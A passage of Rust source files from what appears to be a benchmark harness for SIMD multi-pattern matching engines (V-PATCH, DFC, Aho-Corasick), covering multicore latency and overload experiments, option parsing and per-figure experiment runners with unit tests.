    let mut rows = Vec::new();
    for &workers in worker_counts {
        let pipeline = || {
            ScannerBuilder::new()
                .engine(engine.clone(), rules)
                .workers(workers)
                .build()
                .expect("valid build")
        };
        // Warm-up run (thread spawn, first-touch of flow scanners).
        pipeline()
            .scan_batch(packets.clone())
            .expect("workers alive");
        let mut throughput = RunningStats::new();
        let mut utilization = RunningStats::new();
        let mut histogram = LatencyHistogram::new();
        let mut max_ring_occupancy = 0;
        let mut ring_capacity = 0;
        let mut backpressure_waits = 0;
        for _ in 0..runs {
            // Fresh pipeline per run: identical flow state every time.
            let mut scanner = pipeline();
            let batch = packets.clone();
            let start = Instant::now();
            let result = scanner.scan_batch(batch).expect("workers alive");
            let elapsed = start.elapsed().as_secs_f64();
            throughput.push(crate::measure::gbps(trace.len(), elapsed));
            histogram.merge(&result.histogram);
            for w in &result.workers {
                utilization.push(w.utilization());
                max_ring_occupancy = max_ring_occupancy.max(w.max_ring_occupancy);
                ring_capacity = w.ring_capacity;
            }
            backpressure_waits += result.backpressure_waits;
        }
        rows.push(LatencyRow {
            workers,
            gbps: throughput.mean(),
            gbps_std: throughput.stddev(),
            latency: histogram.summary(),
            utilization_mean: utilization.mean(),
            max_ring_occupancy,
            ring_capacity,
            backpressure_waits,
        });
    }
    rows
}

/// Convenience: the latency experiment on the auto-selected engine
/// (which honours `MPM_FORCE_BACKEND`).
pub fn run_latency_auto(
    rules: &PatternSet,
    trace: &[u8],
    worker_counts: &[usize],
    runs: usize,
) -> Vec<LatencyRow> {
    let engine: SharedMatcher = Arc::from(mpm_vpatch::build_auto(rules));
    run_latency(engine, rules, trace, worker_counts, runs)
}

/// One measured point of the overload-resilience experiment: tiny rings, a
/// bursty elephant-flow workload, one row per backpressure policy.
#[derive(Clone, Debug, Serialize)]
pub struct ResilienceRow {
    /// Backpressure policy the pipeline ran with (`"block"` / `"shed"`).
    pub policy: String,
    /// Worker threads packets were dispatched over.
    pub workers: usize,
    /// Job-ring capacity (deliberately tiny so overload engages).
    pub ring_capacity: usize,
    /// Mean aggregate throughput in Gbit/s, computed over the bytes
    /// actually scanned (shed packets do not count).
    pub gbps: f64,
    /// Sample standard deviation of the throughput.
    pub gbps_std: f64,
    /// Packets dispatched across all runs.
    pub dispatched: u64,
    /// Packets dropped at full rings across all runs (zero under `block`).
    pub shed_packets: u64,
    /// `shed_packets / dispatched` — the headline loss figure.
    pub shed_rate: f64,
    /// Dispatch stalls on full rings across all runs.
    pub backpressure_waits: u64,
}

/// Cuts `trace` into packets with a bursty "elephant flow" distribution:
/// four of every five packets land on flow 0, the rest stripe over the
/// remaining flows — the overload shape where flow-affine dispatch cannot
/// spread load, so one worker's ring saturates while the others idle.
pub fn packetize_bursty(trace: &[u8], packet_len: usize, flows: u64) -> Vec<Packet> {
    assert!(packet_len > 0, "packet_len must be positive");
    trace
        .chunks(packet_len)
        .enumerate()
        .map(|(i, chunk)| {
            let flow = if i % 5 < 4 {
                0
            } else {
                1 + (i as u64 % flows.max(1))
            };
            Packet::new(flow, chunk.to_vec())
        })
        .collect()
}

/// Measures pipeline behaviour under deliberate overload: tiny job rings
/// and a bursty elephant-flow batch, once per backpressure policy. The
/// `block` row is the lossless baseline (shed rate always 0); the `shed`
/// row shows what predictable load-shedding buys in dispatch throughput
/// and costs in dropped packets.
pub fn run_resilience(
    engine: SharedMatcher,
    rules: &PatternSet,
    trace: &[u8],
    workers: usize,
    ring_capacity: usize,
    runs: usize,
) -> Vec<ResilienceRow> {
    assert!(runs > 0, "need at least one run");
    let packets = packetize_bursty(trace, DEFAULT_PACKET_LEN, DEFAULT_FLOWS);
    let policies = [
        ("block", BackpressurePolicy::Block),
        ("shed", BackpressurePolicy::Shed),
    ];
    let mut rows = Vec::new();
    for (name, policy) in policies {
        let pipeline = || {
            ScannerBuilder::new()
                .engine(engine.clone(), rules)
                .workers(workers)
                .ring_capacity(ring_capacity)
                .backpressure(policy)
                .build()
                .expect("valid build")
        };
        // Warm-up run (thread spawn, first-touch of flow scanners).
        pipeline()
            .scan_batch(packets.clone())
            .expect("workers alive");
        let mut throughput = RunningStats::new();
        let mut dispatched = 0u64;
        let mut shed_packets = 0u64;
        let mut backpressure_waits = 0u64;
        for _ in 0..runs {
            let mut scanner = pipeline();
            let batch = packets.clone();
            let start = Instant::now();
            for packet in batch {
                scanner.dispatch(packet);
            }
            let result = scanner.drain().expect("workers alive");
            let elapsed = start.elapsed().as_secs_f64();
            dispatched += packets.len() as u64;
            shed_packets += result.shed_packets;
            backpressure_waits += result.backpressure_waits;
            throughput.push(crate::measure::gbps(
                result.stats.bytes_scanned as usize,
                elapsed,
            ));
        }
        rows.push(ResilienceRow {
            policy: name.to_string(),
            workers,
            ring_capacity,
            gbps: throughput.mean(),
            gbps_std: throughput.stddev(),
            dispatched,
            shed_packets,
            shed_rate: if dispatched == 0 {
                0.0
            } else {
                shed_packets as f64 / dispatched as f64
            },
            backpressure_waits,
        });
    }
    rows
}

/// Convenience: the resilience experiment on the auto-selected engine
/// (which honours `MPM_FORCE_BACKEND`).
pub fn run_resilience_auto(
    rules: &PatternSet,
    trace: &[u8],
    workers: usize,
    ring_capacity: usize,
    runs: usize,
) -> Vec<ResilienceRow> {
    let engine: SharedMatcher = Arc::from(mpm_vpatch::build_auto(rules));
    run_resilience(engine, rules, trace, workers, ring_capacity, runs)
}

/// Convenience: the scaling experiment on the auto-selected engine
/// (which honours `MPM_FORCE_BACKEND`).
pub fn run_scaling_auto(
    rules: &PatternSet,
    trace: &[u8],
    worker_counts: &[usize],
    runs: usize,
) -> MultiCoreFigure {
    let engine: SharedMatcher = Arc::from(mpm_vpatch::build_auto(rules));
    run_scaling(engine, rules, trace, worker_counts, runs)
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::NaiveMatcher;

    #[test]
    fn packetize_covers_trace_and_stripes_flows() {
        let trace: Vec<u8> = (0..200u8).collect();
        let packets = packetize(&trace, 64, 3);
        assert_eq!(packets.len(), 4);
        let total: usize = packets.iter().map(|p| p.payload.len()).sum();
        assert_eq!(total, trace.len());
        assert_eq!(packets[0].flow, 0);
        assert_eq!(packets[1].flow, 1);
        assert_eq!(packets[2].flow, 2);
        assert_eq!(packets[3].flow, 0);
    }

    #[test]
    fn scaling_rows_report_identical_matches() {
        let rules = PatternSet::from_literals(&["abc", "GET "]);
        let engine: SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
        let trace = b"abcGET abcabcGET ".repeat(400);
        let figure = run_scaling(engine, &rules, &trace, &[1, 2], 2);
        assert_eq!(figure.rows.len(), 2);
        assert_eq!(figure.rows[0].matches, figure.rows[1].matches);
        assert!((figure.rows[0].speedup_vs_first - 1.0).abs() < 1e-9);
        assert!(figure.rows[1].gbps > 0.0);
    }

    #[test]
    fn resilience_rows_cover_both_policies() {
        let rules = PatternSet::from_literals(&["abc", "GET "]);
        let engine: SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
        let trace = b"abcGET abcabcGET ".repeat(800);
        let rows = run_resilience(engine, &rules, &trace, 2, 2, 2);
        assert_eq!(rows.len(), 2);
        let block = &rows[0];
        let shed = &rows[1];
        assert_eq!(block.policy, "block");
        assert_eq!(shed.policy, "shed");
        assert_eq!(block.shed_packets, 0, "blocking never drops");
        assert_eq!(block.shed_rate, 0.0);
        assert!((0.0..=1.0).contains(&shed.shed_rate));
        assert_eq!(block.ring_capacity, 2);
        assert!(block.dispatched > 0 && block.dispatched == shed.dispatched);
    }

    #[test]
    fn latency_rows_carry_populated_percentiles() {
        let rules = PatternSet::from_literals(&["abc", "GET "]);
        let engine: SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
        let trace = b"abcGET abcabcGET ".repeat(400);
        let rows = run_latency(engine, &rules, &trace, &[1, 2], 2);
        assert_eq!(rows.len(), 2);
        let expected = packetize(&trace, DEFAULT_PACKET_LEN, DEFAULT_FLOWS).len() as u64;
        for row in &rows {
            assert_eq!(
                row.latency.count,
                2 * expected,
                "one sample per packet per run"
            );
            assert!(row.latency.p50_ns > 0);
            assert!(row.latency.p50_ns <= row.latency.p99_ns);
            assert!(row.latency.p999_ns <= row.latency.max_ns);
            assert!((0.0..=1.0).contains(&row.utilization_mean));
            assert!(row.max_ring_occupancy <= row.ring_capacity);
            assert!(row.gbps > 0.0);
        }
    }
}
