//! Benchmark harness reproducing every figure of the paper's evaluation.
//!
//! The harness is organised as a library (so integration tests can exercise
//! it at reduced sizes) plus one binary per figure:
//!
//! | binary | paper figure | what it prints |
//! |---|---|---|
//! | `fig4`  | Fig. 4a / 4b | throughput (Gbps) of AC, DFC, Vector-DFC, S-PATCH, V-PATCH on the four traces, plus speedups vs DFC |
//! | `fig5a` | Fig. 5a | S-PATCH / V-PATCH throughput and V/S speedup vs number of patterns |
//! | `fig5b` | Fig. 5b | filtering-time share and useful-lane share vs number of patterns |
//! | `fig5c` | Fig. 5c | V/S speedup vs fraction of matching input |
//! | `fig6`  | Fig. 6a/6b/6c | filtering-phase-only throughput (S-PATCH, V-PATCH ± stores) |
//! | `fig7`  | Fig. 7a / 7b | the Figure-4 experiment at the Xeon-Phi vector width (16 lanes) |
//! | `cache_ablation` | §II-B & §V-E claims | simulated cache misses of AC / DFC / V-PATCH on Haswell- and Phi-like hierarchies |
//!
//! Run e.g. `cargo run --release -p mpm-bench --bin fig4 -- --ruleset s1`.
//! Sizes are scaled down from the paper's 1 GB traces by default so a full
//! figure takes seconds, not hours; use `--mb <N>` and `--runs <N>` to crank
//! them up (results are throughput-normalised, so the shape is unchanged).
//!
//! Criterion micro-benchmarks for the hot kernels live in `benches/`.

#![warn(missing_docs)]

pub mod engines;
pub mod experiments;
pub mod measure;
pub mod multicore;
pub mod options;
pub mod report;
pub mod workload;

pub use engines::EngineKind;
pub use measure::{measure_throughput, Measurement};
pub use multicore::{
    packetize_bursty, run_resilience, run_resilience_auto, LatencyRow, MultiCoreFigure,
    MultiCoreRow, ResilienceRow,
};
pub use options::Options;
pub use workload::{RulesetChoice, Workload};
