//! Tiny command-line option parser shared by the figure binaries
//! (kept dependency-free on purpose).

use crate::workload::RulesetChoice;

/// Options common to all figure binaries.
#[derive(Clone, Debug)]
pub struct Options {
    /// Which ruleset scale to use (Snort-like S1, ET-open-like S2, or the
    /// full 20K set).
    pub ruleset: RulesetChoice,
    /// Trace size in MiB.
    pub trace_mib: usize,
    /// Measured repetitions per point (the paper uses 10; the default here is
    /// smaller so a full figure finishes quickly).
    pub runs: usize,
    /// Emit results as JSON instead of a text table.
    pub json: bool,
    /// `bench_baseline` only: run just the `ruleset_scaling` section
    /// (grouped vs monolithic) and enforce `mem_budget` — the fast CI
    /// memory-regression gate.
    pub scaling_only: bool,
    /// `bench_baseline` only: run just the pipeline-latency section
    /// (per-packet percentiles vs worker count) and emit it as JSON — the
    /// CI latency artifact.
    pub latency_only: bool,
    /// `bench_baseline` only: run just the overload-resilience section
    /// (Block vs Shed dispatch at tiny ring capacities) and emit it as
    /// JSON.
    pub resilience_only: bool,
    /// `bench_baseline` only: maximum allowed grouped/monolithic memory
    /// ratio in the `ruleset_scaling` section; exceeded ⇒ nonzero exit when
    /// `scaling_only` is set.
    pub mem_budget: f64,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            ruleset: RulesetChoice::S1,
            trace_mib: 8,
            runs: 3,
            json: false,
            scaling_only: false,
            latency_only: false,
            resilience_only: false,
            mem_budget: 2.0,
        }
    }
}

impl Options {
    /// Parses `--ruleset s1|s2|full`, `--mb N`, `--runs N`, `--json` from an
    /// argument iterator (unknown arguments cause an error message and exit).
    pub fn parse<I: Iterator<Item = String>>(args: I) -> Result<Options, String> {
        let mut options = Options::default();
        let mut args = args.peekable();
        while let Some(arg) = args.next() {
            match arg.as_str() {
                "--ruleset" => {
                    let value = args.next().ok_or("--ruleset needs a value")?;
                    options.ruleset = match value.as_str() {
                        "s1" => RulesetChoice::S1,
                        "s2" => RulesetChoice::S2,
                        "full" => RulesetChoice::Full,
                        other => {
                            return Err(format!("unknown ruleset {other:?} (expected s1|s2|full)"))
                        }
                    };
                }
                "--mb" => {
                    let value = args.next().ok_or("--mb needs a value")?;
                    options.trace_mib = value
                        .parse()
                        .map_err(|_| format!("bad --mb value {value:?}"))?;
                }
                "--runs" => {
                    let value = args.next().ok_or("--runs needs a value")?;
                    options.runs = value
                        .parse()
                        .map_err(|_| format!("bad --runs value {value:?}"))?;
                }
                "--json" => options.json = true,
                "--scaling-only" => options.scaling_only = true,
                "--latency-only" => options.latency_only = true,
                "--resilience-only" => options.resilience_only = true,
                "--mem-budget" => {
                    let value = args.next().ok_or("--mem-budget needs a value")?;
                    options.mem_budget = value
                        .parse()
                        .map_err(|_| format!("bad --mem-budget value {value:?}"))?;
                    if options.mem_budget <= 0.0 || options.mem_budget.is_nan() {
                        return Err("--mem-budget must be positive".to_string());
                    }
                }
                "--help" | "-h" => {
                    return Err(
                        "usage: <figure> [--ruleset s1|s2|full] [--mb N] [--runs N] [--json] \
                         [--scaling-only] [--latency-only] [--resilience-only] [--mem-budget X]"
                            .to_string(),
                    )
                }
                other => return Err(format!("unknown argument {other:?}")),
            }
        }
        if options.trace_mib == 0 || options.runs == 0 {
            return Err("--mb and --runs must be positive".to_string());
        }
        Ok(options)
    }

    /// Parses the process arguments, printing the error and exiting on
    /// failure. Convenience used by the binaries' `main`.
    pub fn from_env() -> Options {
        match Self::parse(std::env::args().skip(1)) {
            Ok(o) => o,
            Err(message) => {
                eprintln!("{message}");
                std::process::exit(2);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(args: &[&str]) -> Result<Options, String> {
        Options::parse(args.iter().map(|s| s.to_string()))
    }

    #[test]
    fn defaults_when_no_args() {
        let o = parse(&[]).unwrap();
        assert_eq!(o.ruleset, RulesetChoice::S1);
        assert_eq!(o.trace_mib, 8);
        assert_eq!(o.runs, 3);
        assert!(!o.json);
    }

    #[test]
    fn parses_all_options() {
        let o = parse(&["--ruleset", "s2", "--mb", "64", "--runs", "10", "--json"]).unwrap();
        assert_eq!(o.ruleset, RulesetChoice::S2);
        assert_eq!(o.trace_mib, 64);
        assert_eq!(o.runs, 10);
        assert!(o.json);
    }

    #[test]
    fn rejects_unknown_arguments_and_bad_values() {
        assert!(parse(&["--bogus"]).is_err());
        assert!(parse(&["--ruleset", "s9"]).is_err());
        assert!(parse(&["--mb", "abc"]).is_err());
        assert!(parse(&["--mb", "0"]).is_err());
        assert!(parse(&["--mem-budget", "0"]).is_err());
        assert!(parse(&["--mem-budget", "x"]).is_err());
    }

    #[test]
    fn parses_scaling_gate_options() {
        let o = parse(&["--scaling-only", "--mem-budget", "1.5"]).unwrap();
        assert!(o.scaling_only);
        assert!((o.mem_budget - 1.5).abs() < 1e-12);
        let d = parse(&[]).unwrap();
        assert!(!d.scaling_only);
        assert!((d.mem_budget - 2.0).abs() < 1e-12);
    }

    #[test]
    fn parses_latency_only() {
        assert!(parse(&["--latency-only"]).unwrap().latency_only);
        assert!(!parse(&[]).unwrap().latency_only);
    }

    #[test]
    fn parses_resilience_only() {
        assert!(parse(&["--resilience-only"]).unwrap().resilience_only);
        assert!(!parse(&[]).unwrap().resilience_only);
    }
}
