//! Tiny command-line option parser shared by the figure binaries
//! (kept dependency-free on purpose).

use crate::workload::RulesetChoice;

/// Options common to all figure binaries.
#[derive(Clone, Debug)]
pub struct Options {
    /// Which ruleset scale to use (Snort-like S1, ET-open-like S2, or the
    /// full 20K set).
    pub ruleset: RulesetChoice,
    /// Trace size in MiB.
    pub trace_mib: usize,
    /// Measured repetitions per point (the paper uses 10; the default here is
    /// smaller so a full figure finishes quickly).
    pub runs: usize,
    /// Emit results as JSON instead of a text table.
    pub json: bool,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            ruleset: RulesetChoice::S1,
            trace_mib: 8,
            runs: 3,
            json: false,
        }
    }
}

impl Options {
    /// Parses `--ruleset s1|s2|full`, `--mb N`, `--runs N`, `--json` from an
    /// argument iterator (unknown arguments cause an error message and exit).
    pub fn parse<I: Iterator<Item = String>>(args: I) -> Result<Options, String> {
        let mut options = Options::default();
        let mut args = args.peekable();
        while let Some(arg) = args.next() {
            match arg.as_str() {
                "--ruleset" => {
                    let value = args.next().ok_or("--ruleset needs a value")?;
                    options.ruleset = match value.as_str() {
                        "s1" => RulesetChoice::S1,
                        "s2" => RulesetChoice::S2,
                        "full" => RulesetChoice::Full,
                        other => {
                            return Err(format!("unknown ruleset {other:?} (expected s1|s2|full)"))
                        }
                    };
                }
                "--mb" => {
                    let value = args.next().ok_or("--mb needs a value")?;
                    options.trace_mib = value
                        .parse()
                        .map_err(|_| format!("bad --mb value {value:?}"))?;
                }
                "--runs" => {
                    let value = args.next().ok_or("--runs needs a value")?;
                    options.runs = value
                        .parse()
                        .map_err(|_| format!("bad --runs value {value:?}"))?;
                }
                "--json" => options.json = true,
                "--help" | "-h" => {
                    return Err(
                        "usage: <figure> [--ruleset s1|s2|full] [--mb N] [--runs N] [--json]"
                            .to_string(),
                    )
                }
                other => return Err(format!("unknown argument {other:?}")),
            }
        }
        if options.trace_mib == 0 || options.runs == 0 {
            return Err("--mb and --runs must be positive".to_string());
        }
        Ok(options)
    }

    /// Parses the process arguments, printing the error and exiting on
    /// failure. Convenience used by the binaries' `main`.
    pub fn from_env() -> Options {
        match Self::parse(std::env::args().skip(1)) {
            Ok(o) => o,
            Err(message) => {
                eprintln!("{message}");
                std::process::exit(2);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(args: &[&str]) -> Result<Options, String> {
        Options::parse(args.iter().map(|s| s.to_string()))
    }

    #[test]
    fn defaults_when_no_args() {
        let o = parse(&[]).unwrap();
        assert_eq!(o.ruleset, RulesetChoice::S1);
        assert_eq!(o.trace_mib, 8);
        assert_eq!(o.runs, 3);
        assert!(!o.json);
    }

    #[test]
    fn parses_all_options() {
        let o = parse(&["--ruleset", "s2", "--mb", "64", "--runs", "10", "--json"]).unwrap();
        assert_eq!(o.ruleset, RulesetChoice::S2);
        assert_eq!(o.trace_mib, 64);
        assert_eq!(o.runs, 10);
        assert!(o.json);
    }

    #[test]
    fn rejects_unknown_arguments_and_bad_values() {
        assert!(parse(&["--bogus"]).is_err());
        assert!(parse(&["--ruleset", "s9"]).is_err());
        assert!(parse(&["--mb", "abc"]).is_err());
        assert!(parse(&["--mb", "0"]).is_err());
    }
}
