//! The experiment runners: one function per figure of the paper.
//!
//! Each function returns a serialisable result structure; the figure binaries
//! print them as text tables (or JSON with `--json`) and EXPERIMENTS.md
//! records representative runs.

use crate::engines::{build_engine, EngineKind, Platform};
use crate::measure::{measure_closure, measure_throughput, Measurement};
use crate::options::Options;
use crate::workload::Workload;
use mpm_cachesim::{replay_aho_corasick, replay_dfc, replay_vpatch, CacheConfig};
use mpm_patterns::Matcher;
use mpm_simd::{Avx2Backend, ScalarBackend, VectorBackend};
use mpm_traffic::{MatchDensityGenerator, TraceKind};
use mpm_vpatch::{FilterOnlyMode, SPatch, Scratch, VPatch};
use serde::Serialize;

/// One bar of Figure 4 / Figure 7: an engine's throughput on one trace.
#[derive(Clone, Debug, Serialize)]
pub struct ThroughputRow {
    /// Trace label ("ISCX day2", ...).
    pub trace: String,
    /// Engine label ("Aho-Corasick", ...).
    pub engine: String,
    /// Measured throughput.
    pub measurement: Measurement,
    /// Throughput relative to DFC on the same trace (the number the paper
    /// prints above each bar).
    pub speedup_vs_dfc: f64,
}

/// Figure 4 / Figure 7 result: all engines × all traces.
#[derive(Clone, Debug, Serialize)]
pub struct ThroughputFigure {
    /// Which figure this reproduces ("4a", "4b", "7a", "7b").
    pub figure: String,
    /// Ruleset description.
    pub ruleset: String,
    /// Platform description (lane count + backend actually used).
    pub platform: String,
    /// Number of patterns handed to the engines.
    pub pattern_count: usize,
    /// One row per (trace, engine).
    pub rows: Vec<ThroughputRow>,
}

/// Runs the Figure 4 (Haswell) or Figure 7 (Xeon-Phi width) experiment.
pub fn run_throughput_figure(options: &Options, platform: Platform) -> ThroughputFigure {
    let workload = Workload::build(options.ruleset, options.trace_mib);
    let figure = match (platform, options.ruleset) {
        (Platform::Haswell, crate::workload::RulesetChoice::S1) => "4a",
        (Platform::Haswell, _) => "4b",
        (Platform::XeonPhi, crate::workload::RulesetChoice::S1) => "7a",
        (Platform::XeonPhi, _) => "7b",
    };
    // Engines are compiled once (construction cost is not part of the
    // figure; the paper measures steady-state scan throughput).
    let engines: Vec<(EngineKind, Box<dyn Matcher + Send + Sync>)> = EngineKind::ALL
        .iter()
        .map(|&k| (k, build_engine(k, &workload.patterns, platform)))
        .collect();
    let mut rows = Vec::new();
    for (kind, trace) in &workload.traces {
        // Measure every engine on this trace, then normalise to DFC.
        let mut measurements = Vec::new();
        for (engine_kind, engine) in &engines {
            let m = measure_throughput(engine.as_ref(), trace, options.runs);
            measurements.push((*engine_kind, m));
        }
        let dfc_gbps = measurements
            .iter()
            .find(|(k, _)| *k == EngineKind::Dfc)
            .map(|(_, m)| m.gbps_mean)
            .unwrap_or(1.0);
        for (engine_kind, m) in measurements {
            rows.push(ThroughputRow {
                trace: kind.label().to_string(),
                engine: engine_kind.label().to_string(),
                measurement: m,
                speedup_vs_dfc: m.gbps_mean / dfc_gbps,
            });
        }
    }
    ThroughputFigure {
        figure: figure.to_string(),
        ruleset: options.ruleset.label().to_string(),
        platform: platform.describe(),
        pattern_count: workload.patterns.len(),
        rows,
    }
}

/// One point of Figure 5a: throughput of S-PATCH and V-PATCH at a pattern
/// count.
#[derive(Clone, Debug, Serialize)]
pub struct ScalingPoint {
    /// Number of patterns.
    pub patterns: usize,
    /// S-PATCH throughput.
    pub spatch: Measurement,
    /// V-PATCH throughput.
    pub vpatch: Measurement,
    /// V-PATCH / S-PATCH speedup (right axis of Figure 5a).
    pub speedup: f64,
}

/// Figure 5a result.
#[derive(Clone, Debug, Serialize)]
pub struct ScalingFigure {
    /// Pattern counts swept.
    pub points: Vec<ScalingPoint>,
    /// Platform description.
    pub platform: String,
}

/// Default pattern-count sweep (the paper sweeps 0–20,000).
pub const PATTERN_SWEEP: [usize; 6] = [1_000, 2_500, 5_000, 10_000, 15_000, 20_000];

/// Runs the Figure 5a experiment: throughput vs number of patterns.
pub fn run_pattern_scaling(options: &Options, sweep: &[usize]) -> ScalingFigure {
    let workload = Workload::build_with_traces(
        crate::workload::RulesetChoice::Full,
        options.trace_mib,
        &[TraceKind::IscxDay2],
    );
    let trace = &workload.traces[0].1;
    let platform = Platform::Haswell;
    let mut points = Vec::new();
    for &n in sweep {
        let subset = workload.pattern_subset(n);
        let spatch = build_engine(EngineKind::SPatch, &subset, platform);
        let vpatch = build_engine(EngineKind::VPatch, &subset, platform);
        let sm = measure_throughput(spatch.as_ref(), trace, options.runs);
        let vm = measure_throughput(vpatch.as_ref(), trace, options.runs);
        points.push(ScalingPoint {
            patterns: n,
            speedup: vm.gbps_mean / sm.gbps_mean,
            spatch: sm,
            vpatch: vm,
        });
    }
    ScalingFigure {
        points,
        platform: platform.describe(),
    }
}

/// One point of Figure 5b: the two instrumentation series.
#[derive(Clone, Debug, Serialize)]
pub struct InstrumentationPoint {
    /// Number of patterns.
    pub patterns: usize,
    /// Percentage of total time spent in the filtering round.
    pub filtering_time_pct: f64,
    /// Percentage of useful (active) lanes when the third filter runs.
    pub useful_lanes_pct: f64,
    /// Fraction of windows forwarded to verification.
    pub candidate_rate: f64,
}

/// Figure 5b result.
#[derive(Clone, Debug, Serialize)]
pub struct InstrumentationFigure {
    /// One point per pattern count.
    pub points: Vec<InstrumentationPoint>,
    /// Lane count used.
    pub lanes: usize,
}

/// Runs the Figure 5b experiment: filtering/total time ratio and useful-lane
/// occupancy vs number of patterns.
pub fn run_instrumentation(options: &Options, sweep: &[usize]) -> InstrumentationFigure {
    let workload = Workload::build_with_traces(
        crate::workload::RulesetChoice::Full,
        options.trace_mib,
        &[TraceKind::IscxDay2],
    );
    let trace = &workload.traces[0].1;
    let mut points = Vec::new();
    const LANES: usize = 8;
    for &n in sweep {
        let subset = workload.pattern_subset(n);
        let stats = if <Avx2Backend as VectorBackend<8>>::is_available() {
            VPatch::<Avx2Backend, LANES>::build(&subset).scan_with_stats(trace)
        } else {
            VPatch::<ScalarBackend, LANES>::build(&subset).scan_with_stats(trace)
        };
        points.push(InstrumentationPoint {
            patterns: n,
            filtering_time_pct: stats.filtering_time_fraction().unwrap_or(0.0) * 100.0,
            useful_lanes_pct: stats.useful_lane_fraction(LANES).unwrap_or(0.0) * 100.0,
            candidate_rate: stats.candidates as f64 / stats.bytes_scanned.max(1) as f64,
        });
    }
    InstrumentationFigure {
        points,
        lanes: LANES,
    }
}

/// One point of Figure 5c.
#[derive(Clone, Debug, Serialize)]
pub struct MatchDensityPoint {
    /// Requested fraction of matching input.
    pub fraction: f64,
    /// S-PATCH throughput.
    pub spatch: Measurement,
    /// V-PATCH throughput.
    pub vpatch: Measurement,
    /// V-PATCH / S-PATCH speedup (the annotated numbers of Figure 5c).
    pub speedup: f64,
}

/// Figure 5c result.
#[derive(Clone, Debug, Serialize)]
pub struct MatchDensityFigure {
    /// One point per match fraction.
    pub points: Vec<MatchDensityPoint>,
    /// Number of patterns in the rule subset (the paper uses 2,000).
    pub patterns: usize,
}

/// Runs the Figure 5c experiment: speedup vs fraction of matching input.
pub fn run_match_density(options: &Options, fractions: &[f64]) -> MatchDensityFigure {
    let workload = Workload::build_with_traces(
        crate::workload::RulesetChoice::Full,
        options.trace_mib,
        &[TraceKind::Random],
    );
    let patterns = workload.pattern_subset(2_000);
    let generator = MatchDensityGenerator::new(options.trace_mib * 1024 * 1024, 0x000f_165c);
    let platform = Platform::Haswell;
    let spatch = build_engine(EngineKind::SPatch, &patterns, platform);
    let vpatch = build_engine(EngineKind::VPatch, &patterns, platform);
    let mut points = Vec::new();
    for &fraction in fractions {
        let input = generator.generate(&patterns, fraction);
        let sm = measure_throughput(spatch.as_ref(), &input, options.runs);
        let vm = measure_throughput(vpatch.as_ref(), &input, options.runs);
        points.push(MatchDensityPoint {
            fraction,
            speedup: vm.gbps_mean / sm.gbps_mean,
            spatch: sm,
            vpatch: vm,
        });
    }
    MatchDensityFigure {
        points,
        patterns: patterns.len(),
    }
}

/// One row of Figure 6: a filtering-only configuration on one trace.
#[derive(Clone, Debug, Serialize)]
pub struct FilteringRow {
    /// Trace label.
    pub trace: String,
    /// Configuration label ("S-PATCH-filtering", "V-PATCH-filtering+stores",
    /// "V-PATCH-filtering").
    pub config: String,
    /// Measured filtering throughput.
    pub measurement: Measurement,
    /// Speedup relative to S-PATCH filtering on the same trace.
    pub speedup_vs_spatch: f64,
}

/// Figure 6 result.
#[derive(Clone, Debug, Serialize)]
pub struct FilteringFigure {
    /// Which sub-figure ("6a", "6b", "6c") based on the ruleset.
    pub figure: String,
    /// Ruleset description.
    pub ruleset: String,
    /// One row per (trace, configuration).
    pub rows: Vec<FilteringRow>,
}

/// Runs the Figure 6 experiment: filtering-phase throughput in isolation.
pub fn run_filtering_only(options: &Options) -> FilteringFigure {
    let workload =
        Workload::build_with_traces(options.ruleset, options.trace_mib, &TraceKind::REALISTIC);
    let figure = match options.ruleset {
        crate::workload::RulesetChoice::S1 => "6a",
        crate::workload::RulesetChoice::S2 => "6b",
        crate::workload::RulesetChoice::Full => "6c",
    };
    let spatch = SPatch::build(&workload.patterns);
    let avx2 = <Avx2Backend as VectorBackend<8>>::is_available();
    let vpatch_avx2;
    let vpatch_scalar;
    let vpatch: &dyn VPatchFilterOnly = if avx2 {
        vpatch_avx2 = VPatch::<Avx2Backend, 8>::build(&workload.patterns);
        &vpatch_avx2
    } else {
        vpatch_scalar = VPatch::<ScalarBackend, 8>::build(&workload.patterns);
        &vpatch_scalar
    };

    let mut rows = Vec::new();
    for (kind, trace) in &workload.traces {
        let mut scratch = Scratch::with_capacity_for(trace.len());
        let s_meas = measure_closure(trace.len(), options.runs, || {
            scratch.clear();
            spatch.filter_round(trace, &mut scratch);
            scratch.candidates()
        });
        let v_store_meas = measure_closure(trace.len(), options.runs, || {
            vpatch.filter_only_dyn(trace, FilterOnlyMode::WithStores, &mut scratch)
        });
        let v_pure_meas = measure_closure(trace.len(), options.runs, || {
            vpatch.filter_only_dyn(trace, FilterOnlyMode::NoStores, &mut scratch)
        });
        for (config, m) in [
            ("S-PATCH-filtering", s_meas),
            ("V-PATCH-filtering+stores", v_store_meas),
            ("V-PATCH-filtering", v_pure_meas),
        ] {
            rows.push(FilteringRow {
                trace: kind.label().to_string(),
                config: config.to_string(),
                speedup_vs_spatch: m.gbps_mean / s_meas.gbps_mean,
                measurement: m,
            });
        }
    }
    FilteringFigure {
        figure: figure.to_string(),
        ruleset: options.ruleset.label().to_string(),
        rows,
    }
}

/// Object-safe shim so `run_filtering_only` can hold either VPatch
/// instantiation behind one reference.
trait VPatchFilterOnly {
    fn filter_only_dyn(&self, input: &[u8], mode: FilterOnlyMode, scratch: &mut Scratch) -> u64;
}

impl<B: VectorBackend<8>> VPatchFilterOnly for VPatch<B, 8> {
    fn filter_only_dyn(&self, input: &[u8], mode: FilterOnlyMode, scratch: &mut Scratch) -> u64 {
        self.filter_only(input, mode, scratch)
    }
}

/// Cache-simulation results for one engine on one hierarchy.
#[derive(Clone, Debug, Serialize)]
pub struct CacheRow {
    /// Engine label.
    pub engine: String,
    /// Hierarchy name ("haswell" / "xeon-phi").
    pub config: String,
    /// Data-structure accesses issued.
    pub accesses: u64,
    /// L1 misses.
    pub l1_misses: u64,
    /// Accesses that reached memory.
    pub memory_accesses: u64,
    /// L1 miss ratio.
    pub l1_miss_ratio: f64,
}

/// Cache-ablation result (the §II-B and §V-E claims).
#[derive(Clone, Debug, Serialize)]
pub struct CacheFigure {
